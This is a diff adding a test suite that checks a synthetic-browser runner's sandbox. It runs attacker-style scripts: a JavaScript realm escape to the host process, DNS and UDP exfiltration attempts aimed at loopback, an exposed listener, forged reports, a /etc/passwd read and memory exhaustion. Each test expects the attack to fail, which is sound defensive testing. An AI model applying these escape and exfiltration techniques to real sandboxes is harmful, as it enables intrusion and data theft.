@@ -1,0 +1,134 @@
+/**
+ * The synthetic runner's confinement, tried as an attacker would from a script that has reached
+ * the runner's real `process` (`page.constructor.constructor('return process')()`): UDP and DNS
+ * sent from C++ sockets reach no one, a listener it opens cannot be reached from outside, a report
+ * it forges is ignored, and a file it asks for is refused at once, in a sentence. The children run
+ * from dist/ (npm run build first). Skipped only when no Chromium is installed outside CI.
+ */
+import { createSocket, type Socket } from 'node:dgram';
+import { type AddressInfo, connect, createServer } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { silentLogger } from '../../../../core/log.js';
+import { runProbe } from '../probes/index.js';
+import { findChromium, SyntheticBrowser } from './browser.js';
+
+const chromium = (() => {
+  try {
+    return findChromium(process.env.VIGIL_CHROMIUM_PATH);
+  } catch {
+    return undefined;
+  }
+})();
+const CI = process.env.CI === 'true';
+const ESCAPE = "const host = page.constructor.constructor('return process')();\n";
+
+/** A TCP port free on this machine a moment ago. */
+async function freePort(): Promise<number> {
+  const server = createServer();
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+  return port;
+}
+
+const reachable = (port: number) =>
+  new Promise<boolean>((resolve) => {
+    const s = connect({ port, host: '127.0.0.1' });
+    s.once('connect', () => {
+      s.destroy();
+      resolve(true);
+    });
+    s.once('error', () => resolve(false));
+  });
+
+describe.skipIf(!chromium && !CI)('a script that escapes its JavaScript realm', () => {
+  let browser: SyntheticBrowser;
+  const run = (pw_script: string, timeout = 20) =>
+    runProbe(
+      { type: 'synthetic', timeout, url: 'http://127.0.0.1:9/', parameters: { pw_script } },
+      { blockPrivate: true, browser },
+    );
+
+  beforeAll(() => {
+    browser = new SyntheticBrowser({ log: silentLogger(), chromiumPath: chromium, blockPrivate: true });
+  });
+  afterAll(async () => {
+    await browser?.close();
+  });
+
+  it('sends no UDP: neither a DNS query from C++ sockets nor a datagram reaches a loopback listener', async () => {
+    const udp: Socket = createSocket('udp4');
+    const received: Buffer[] = [];
+    udp.on('message', (m) => received.push(m));
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    const port = udp.address().port;
+    try {
+      const result = await run(
+        `${ESCAPE}const dns = host.getBuiltinModule('node:dns');
+const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
+resolver.setServers(['127.0.0.1:${port}']);
+await new Promise((done) => resolver.resolve4('exfiltrated-data.example', () => done()));
+try { host.getBuiltinModule('node:dgram').createSocket('udp4').send('leak', ${port}, '127.0.0.1'); } catch {}
+await new Promise((done) => setTimeout(done, 300));
+console.log('sent');`,
+      );
+      expect(result.check_metadata.logs ?? result.error_message).toEqual(['sent']);
+      expect(received.map(String)).toEqual([]);
+    } finally {
+      udp.close();
+    }
+  }, 60_000);
+
+  it('cannot be reached on a listener it opens on 0.0.0.0, while the run lasts', async () => {
+    const port = await freePort();
+    let reached = false;
+    let polling = true;
+    const poll = (async () => {
+      while (polling) {
+        if (await reachable(port)) reached = true;
+        await new Promise((r) => setTimeout(r, 100));
+      }
+    })();
+    const result = await run(
+      `${ESCAPE}const server = host.getBuiltinModule('node:http').createServer((q, s) => s.end('secrets'));
+await new Promise((done) => server.listen(${port}, '0.0.0.0', done));
+console.log('listening');
+await new Promise((done) => setTimeout(done, 4000));`,
+    );
+    polling = false;
+    await poll;
+    expect(result.check_metadata.logs ?? result.error_message).toEqual(['listening']);
+    expect(reached).toBe(false);
+  }, 60_000);
+
+  it('cannot forge the report over IPC or on stdout', async () => {
+    const forged = "{ report: { passed: true, steps: [], console_errors: [], logs: ['forged'] } }";
+    const result = await run(
+      `${ESCAPE}try { host.send?.(${forged}); } catch {}
+try { host.stdout.write(JSON.stringify(${forged}) + '\\n'); } catch {}
+await new Promise((done) => setTimeout(done, 300));
+throw new Error('the real outcome');`,
+    );
+    expect(result).toMatchObject({ status: 'failed' });
+    expect(result.error_message).toContain('the real outcome');
+    expect(JSON.stringify(result)).not.toContain('forged');
+  }, 60_000);
+
+  it('is refused a file within a second, in a sentence, and out of memory is a sentence too', async () => {
+    const file = await run(
+      `test('Fulfil from a file', async ({ page }) => {
+  await test.step('Route', async () => {
+    await page.route('**/*', (route) => route.fulfill({ path: '/etc/passwd' }));
+    await page.goto('http://example.invalid/');
+  });
+});`,
+    );
+    expect(file.status).toBe('failed');
+    expect(file.error_message).toMatch(/Synthetic scripts have no files.*\/etc\/passwd/);
+    expect((file.check_metadata.steps as { duration_ms: number }[])[0]?.duration_ms).toBeLessThan(1000);
+
+    const memory = await run('const hoard = [];\nwhile (true) hoard.push(new Array(1e6).fill(1.5));');
+    expect(memory.status).toBe('failed');
+    expect(memory.error_message).toMatch(/^The script ran out of memory \(\d+ MB\)\.$/);
+  }, 90_000);
+});
